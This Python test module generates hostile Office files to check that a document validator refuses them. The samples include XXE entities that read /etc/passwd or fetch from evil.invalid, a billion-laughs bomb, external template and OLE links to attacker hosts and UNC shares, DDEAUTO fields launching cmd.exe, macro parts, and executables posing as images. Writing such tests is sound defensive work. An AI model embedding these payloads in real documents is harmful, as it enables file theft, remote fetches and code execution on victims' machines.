"""Office documents that run, fetch, or read what is not theirs."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

from tests.trust.hostile import CANARY, REFUSED, SAFE, Case
from tests.trust.hostile.archives import CONTENT, TYPES, WORDS, docx, odt, xlsx, zipped

RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
ENTITIES: dict[str, bytes] = {
    "a file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "a page": b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.invalid/">]>',
    "a parameter": b'<!DOCTYPE a [<!ENTITY %% p SYSTEM "http://evil.invalid/x.dtd"> %%p;]>'.replace(b"%%", b"%"),
    "a thousand million laughs": b"<!DOCTYPE a [<!ENTITY a0 'ha'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]>",
    "a type alone": b"<!DOCTYPE a>",
    "a type elsewhere": b'<!DOCTYPE a PUBLIC "-//x" "http://evil.invalid/a.dtd">',
}


def _with(head: bytes, body: bytes) -> bytes:
    return b'<?xml version="1.0"?>' + head + body.replace(b"hello", b"&a9;&x;")


def _entities() -> Iterator[Case]:
    for label, head in ENTITIES.items():
        yield Case(
            f"docx that reads {label}", "a.docx", zipped(docx() | {"word/document.xml": _with(head, WORDS)}), REFUSED
        )
        yield Case(f"odt that reads {label}", "a.odt", zipped(odt() | {"content.xml": _with(head, CONTENT)}), REFUSED)
        yield Case(
            f"xlsx that reads {label}",
            "a.xlsx",
            zipped(xlsx(xl_0_sharedStrings__xml=_with(head, b"<a>hello</a>"))),
            REFUSED,
        )
        wide = _with(head, WORDS).replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16")
        yield Case(
            f"docx that reads {label} in UTF-16", "a.docx", zipped(docx() | {"word/document.xml": wide}), REFUSED
        )
    deep = b"<a>" * 5_000 + b"</a>" * 5_000
    yield Case(
        "docx of five thousand elements, one in the other",
        "a.docx",
        zipped(docx() | {"word/document.xml": deep}),
        REFUSED,
    )
    yield Case("docx that is not XML", "a.docx", zipped(docx() | {"word/document.xml": b"<a><b></a>"}), REFUSED)
    many = b"<a " + b" ".join(b"x%d='y'" % number for number in range(50_000)) + b"/>"
    yield Case("docx of fifty thousand attributes", "a.docx", zipped(docx(word_0_b__xml=many)), SAFE)


def _macros() -> Iterator[Case]:
    for ending in ("docx", "docm", "dotm", "xlsx", "xlsm", "pdf", "txt"):
        base = xlsx if ending.startswith("xl") else docx
        folder = "xl" if ending.startswith("xl") else "word"
        for name in ("vbaProject.bin", "vbaData.xml"):
            inside = base() | {f"{folder}/{name}": b"<a/>" if name.endswith("xml") else b"\xd0\xcf\x11\xe0" + bytes(90)}
            yield Case(
                f"{name} in {ending}", f"a.{ending}", zipped(inside), REFUSED, frozenset({"macros", "files_inside"})
            )
    macro = TYPES.replace(
        b"/>",
        b'><Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    )
    yield Case("docx that says macros", "a.docx", zipped(docx() | {"[Content_Types].xml": macro}), REFUSED)
    for name in ("Basic/Standard/Module1.xml", "Scripts/python/evil.py", "Basic/script-lc.xml"):
        yield Case(f"odt with {name}", "a.odt", zipped(odt() | {name: b"<a/>"}), REFUSED)
    listener = CONTENT.replace(
        b"<office:body>",
        b'<office:scripts><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:event-name="dom:load"/></office:scripts><office:body>',
    )
    yield Case("odt that listens", "a.odt", zipped(odt() | {"content.xml": listener}), REFUSED)


def _fetching() -> Iterator[Case]:
    kinds = ("attachedTemplate", "oleObject", "frame", "image", "subDocument", "package")
    targets = (b"http://evil.invalid/a.dotm", b"file:///c:/a", b"\\\\host\\share\\a")
    for kind, target in itertools.product(kinds, targets):
        relations = RELATIONS % (kind.encode(), target)
        inside = docx() | {"word/_rels/settings.xml.rels": relations}
        yield Case(
            f"docx with {kind} at {target.decode()}", "a.docx", zipped(inside), REFUSED, frozenset({"links_outside"})
        )
    honest = RELATIONS % (b"hyperlink", b"https://example.org/")
    yield Case("docx with an honest link", "a.docx", zipped(docx() | {"word/_rels/document.xml.rels": honest}), SAFE)
    for field in (
        "DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;",
        "DDE cmd",
        "INCLUDETEXT &quot;http://evil.invalid/&quot;",
    ):
        split = "</w:instrText><w:instrText>".join((field[:2], field[2:]))
        for told in (field, split):
            text = WORDS.replace(b"<w:t>hello</w:t>", f"<w:instrText>{told}</w:instrText>".encode())
            yield Case(
                f"docx with the field {told[:40]}", "a.docx", zipped(docx() | {"word/document.xml": text}), REFUSED
            )
    link = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    yield Case("xlsx with DDE", "a.xlsx", zipped(xlsx(xl_0_externalLinks_0_externalLink1__xml=link)), REFUSED)
    yield Case("xlsx with a connection", "a.xlsx", zipped(xlsx(xl_0_connections__xml=b"<connections/>")), REFUSED)
    yield Case("docx with ActiveX", "a.docx", zipped(docx(word_0_activeX_0_activeX1__xml=b"<a/>")), REFUSED)
    yield Case(
        "docx with an object", "a.docx", zipped(docx(word_0_embeddings_0_oleObject1__bin=b"\xd0\xcf\x11\xe0")), REFUSED
    )
    yield Case("odt with an object", "a.odt", zipped(odt() | {"Object 1": b"\xd0\xcf\x11\xe0"}), REFUSED)
    for name in ("a.exe", "a.js", "a.vbs", "a.lnk", "a.dll", "a.hta", "a.bat"):
        yield Case(f"docx with {name}", "a.docx", zipped(docx() | {f"word/media/{name}": b"harmless"}), REFUSED)
    for mark in (b"MZ", b"\x7fELF"):
        yield Case(
            f"docx with {mark!r} as a picture", "a.docx", zipped(docx(word_0_media_0_a__png=mark + bytes(90))), REFUSED
        )


def _telling() -> Iterator[Case]:
    core = f"<a>{CANARY}</a>".encode()
    yield Case("docx with an author", "a.docx", zipped(docx(docProps_0_core__xml=core)), SAFE)
    yield Case("xlsx with an author", "a.xlsx", zipped(xlsx(docProps_0_core__xml=core)), SAFE)
    yield Case("odt with an author", "a.odt", zipped(odt(meta__xml=core)), SAFE)
    yield Case("docx with a preview", "a.docx", zipped(docx(docProps_0_thumbnail__jpeg=CANARY.encode())), SAFE)


def cases() -> Iterator[Case]:
    """Every one of them."""
    yield from _entities()
    yield from _macros()
    yield from _fetching()
    yield from _telling()
